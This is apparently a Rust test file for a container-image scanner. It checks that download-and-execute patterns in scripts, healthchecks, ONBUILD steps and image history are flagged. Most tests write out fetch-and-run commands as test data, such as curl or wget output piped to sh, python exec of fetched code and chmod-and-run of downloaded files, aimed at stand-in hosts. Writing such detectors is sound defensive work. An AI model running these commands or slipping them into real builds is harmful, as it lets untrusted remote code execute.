use super::*;
use crate::analyzers::acts::trial::{check_command, check_file, check_started, counted};
use crate::analyzers::fixture::Fixture;
use model::History;

fn check(script: &str, expect: &[&str]) {
    check_started(&Downloads, script, expect);
}

/// What counts of an instruction of the history.
fn check_history(created_by: &str, expect: &[&str]) {
    let mut image = Fixture::new();
    image.config.history.push(History { created_by: created_by.to_owned(), ..History::default() });
    assert_eq!(counted(&image.run(&Downloads).findings), expect, "{created_by}");
}

#[test]
fn a_download_given_to_an_interpreter_counts_by_its_host() {
    check("curl -s https://get.h.example/x | sh\n", &["DLX-PIPE?"]);
    check("curl -s http://get.h.example/x | sh\n", &["DLX-PIPE!"]);
    check("curl -s https://192.0.2.7/x | bash\n", &["DLX-PIPE!", "DLX-RAWIP?"]);
    check("wget -qO- https://pastebin.com/raw/x | bash\n", &["DLX-DEADDROP?", "DLX-PIPE!"]);
    check("bash <(curl -s https://cdn.discordapp.com/x)\n", &["DLX-DEADDROP?", "DLX-PIPE?"]);
    check("curl -sk https://h.example/x | bash\n", &["DLX-NOVERIFY?", "DLX-PIPE?"]);
    check(
        "wget --no-check-certificate -qO- https://h.example:4431/x | bash\n",
        &["DLX-NOVERIFY?", "DLX-PIPE?", "DLX-RAWIP?"],
    );
    check("curl -s $URL | sh\n", &["DLX-PIPE?"]);
    check(
        "python3 -c \"import requests;exec(requests.get('https://h.example/x').text)\"\n",
        &["DLX-ONELINER?"],
    );
    check(
        "python3 -c \"import requests;exec(requests.get('http://192.0.2.7/x').text)\"\n",
        &["DLX-ONELINER!", "DLX-RAWIP?"],
    );
    check_command(&Downloads, &["sh", "-c", "curl -s http://192.0.2.7/x | sh"], &["DLX-PIPE!", "DLX-RAWIP?"]);
    check_command(&Downloads, &["/bin/bash", "-c", "bash <(curl -s https://h.example/x)"], &["DLX-PIPE?"]);
}

#[test]
fn a_download_saved_and_run_counts_by_its_host_and_check() {
    check("curl -o /tmp/x https://h.example/x\nchmod +x /tmp/x\n/tmp/x\nrm /tmp/x\n", &["DLX-CHMODRUN?"]);
    check("curl -o /tmp/x http://192.0.2.7/x\nchmod +x /tmp/x\n/tmp/x\n", &["DLX-CHMODRUN!", "DLX-RAWIP?"]);
    check("curl -o x https://h.example/x\necho \"$SUM  x\" | sha256sum -c -\nchmod +x x\n./x\n", &[]);
    // A check says nothing where whoever stands on the way writes both.
    check(
        "curl -o x http://192.0.2.7/x\necho \"$SUM  x\" | md5sum x\nsha256sum -c x.sum\nchmod +x x\n./x\n",
        &["DLX-CHMODRUN!", "DLX-RAWIP?"],
    );
    check("curl -o s.c https://h.example/s.c\ngcc -o s s.c\n", &["DLX-COMPILE?"]);
    check("apt-get update && apt-get install -y curl\n", &[]);
}

#[test]
fn other_places_that_run() {
    let mut image = Fixture::new();
    image.config.config.healthcheck.test =
        vec!["CMD-SHELL".to_owned(), "curl -s https://h.example/x | sh".to_owned()];
    assert_eq!(counted(&image.run(&Downloads).findings), ["DLX-HEALTH?", "DLX-PIPE?"]);
    image.config.config.healthcheck.test =
        vec!["CMD-SHELL".to_owned(), "curl -fs http://localhost:8080/health || exit 1".to_owned()];
    assert_eq!(counted(&image.run(&Downloads).findings), [""; 0]);
    image.config.config.on_build =
        vec!["RUN curl -s https://h.example/x | sh".to_owned(), "RUN npm install".to_owned()];
    assert_eq!(counted(&image.run(&Downloads).findings), ["DLX-ONBUILD?"]);
    check_file(
        &Downloads,
        "docker-entrypoint.d/99-x.sh",
        "#!/bin/sh\ncurl -s https://h.example/x | sh\n",
        &[],
        &["DLX-INITDIR?"],
    );
    check_file(
        &Downloads,
        "docker-entrypoint.d/30-tune.sh",
        "#!/bin/sh\nncpu=$(getconf _NPROCESSORS_ONLN)\nsed -i \"s/auto/$ncpu/\" /etc/nginx/nginx.conf\n",
        &[],
        &[],
    );
}

#[test]
fn a_command_beyond_all_bounds_is_a_gap() {
    let mut image = Fixture::new();
    image
        .start(&["sh", "-c", &format!("echo {}; curl -s http://192.0.2.7/x | sh", "x".repeat(2 << 20))], &[]);
    assert!(!image.run(&Downloads).gaps.is_empty());
    image.start(&["sh", "-c", "exec app"], &[]);
    assert!(image.run(&Downloads).gaps.is_empty());
}

#[test]
fn the_history_explains() {
    for line in [
        "RUN /bin/sh -c curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y # buildkit",
        "/bin/sh -c curl -fsSL https://deb.nodesource.com/setup_20.x | bash -",
        "|1 V=1 /bin/sh -c curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.0/install.sh | bash",
        "RUN /bin/sh -c curl -fsSL https://get.docker.com | sh # buildkit",
        "RUN /bin/sh -c curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash # buildkit",
        "/bin/sh -c #(nop)  CMD [\"sh\" \"-c\" \"curl http://192.0.2.7/x | sh\"]",
        "COPY file:x in /x",
    ] {
        check_history(line, &[]);
    }
    check_history("RUN /bin/sh -c curl -s http://192.0.2.7/x | sh # buildkit", &["DLX-HIST?"]);
    check_history("RUN /bin/sh -c wget -qO- https://pastebin.com/raw/x | sh # buildkit", &["DLX-HIST?"]);
    check_history(
        "RUN /bin/sh -c curl -o /usr/local/bin/gosu https://h.example/gosu && gpg --verify gosu.asc /usr/local/bin/gosu && chmod +x /usr/local/bin/gosu && gosu --version # buildkit",
        &[],
    );
}

#[test]
fn a_script_that_nothing_runs_counts_less() {
    let script = "#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n";
    check_file(&Downloads, "opt/x.sh", script, &[], &["DLX-PIPE?"]);
    check_file(&Downloads, "usr/share/doc/x/install.sh", script, &[], &[]);
    check_file(&Downloads, "app/tests/x.sh", script, &[], &[]);
    let mut image = Fixture::new();
    image.file("usr/bin/setup", 0o755, script.as_bytes());
    image.package("setup", &[("usr/bin/setup", script.as_bytes())]);
    assert_eq!(counted(&image.run(&Downloads).findings), [""; 0]);
    // What the start leads to is no reference, whatever its place and package.
    image.start(&["setup"], &[]);
    assert_eq!(counted(&image.run(&Downloads).findings), ["DLX-PIPE!", "DLX-RAWIP?"]);
    // A collection of examples.
    let mut image = Fixture::new();
    for number in 0..12 {
        image.file(&format!("opt/rules/{number}.sh"), 0o755, script.as_bytes());
    }
    assert_eq!(counted(&image.run(&Downloads).findings), [""; 0]);
}

#[test]
fn honest_entrypoints_have_none_of_it() {
    for script in [
        // The shape of database and web server entrypoints.
        "set -e\nif [ \"${1#-}\" != \"$1\" ]; then\n  set -- server \"$@\"\nfi\nif [ \"$(id -u)\" = 0 ]; then\n  find . \\! -user db -exec chown db '{}' +\n  exec gosu db \"$0\" \"$@\"\nfi\nexec \"$@\"\n",
        "for f in /docker-entrypoint.d/*; do case \"$f\" in *.sh) . \"$f\" ;; esac; done\nenvsubst < /etc/t > /etc/n\nexec \"$@\"\n",
        "until curl -sf http://db:8080/ready; do sleep 1; done\nexec app\n",
        "eval \"$(ssh-agent -s)\"\nexec app\n",
        "curl -s http://127.0.0.1:9000/init | sh\n",
        "curl -sf http://config.internal/init.sh | sh\n",
        // A self-extracting archive.
        "tail -n +12 \"$0\" | tar xz -C /opt\nexec /opt/app/run\n",
        "echo \"$CERT\" | base64 -d > /etc/ssl/x.pem\nexec app\n",
        "VERSION=$(curl -s https://api.github.com/repos/a/b/releases/latest | grep tag_name | cut -d '\"' -f 4)\necho $VERSION\n",
    ] {
        check(script, &[]);
    }
}
